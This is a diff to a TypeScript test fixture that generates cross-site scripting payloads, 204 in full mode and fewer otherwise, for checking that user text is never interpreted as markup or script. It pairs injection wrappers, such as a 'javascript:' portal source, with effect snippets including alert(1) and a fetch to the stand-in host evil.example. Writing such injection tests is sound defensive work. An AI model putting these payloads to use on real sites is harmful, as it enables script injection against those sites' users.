@@ -1,3 +1,5 @@
+import { isWhole } from '../../src/shared/kernel/testing/test-size.ts';
+
 const doing = ['window.hacked=1', 'alert(1)', 'fetch(`//evil.example`)', 'document.title=`hacked`'];
 
 const shapes: ((code: string) => string)[] = [
@@ -54,5 +56,10 @@ const shapes: ((code: string) => string)[] = [
   (code) => `<portal src="javascript:${code}">`,
 ];
 
-/** 204 texts that would have an effect if they were interpreted as anything but text. */
-export const payloads = shapes.flatMap((shape) => doing.map((code) => shape(code)));
+/**
+ * Texts that would have an effect if they were interpreted as anything but text: 204 in `npm run test:all`, each shape once
+ * in `npm test`.
+ */
+export const payloads = shapes.flatMap((shape, number) =>
+  doing.filter((_, effect) => isWhole || effect === number % doing.length).map((code) => shape(code)),
+);
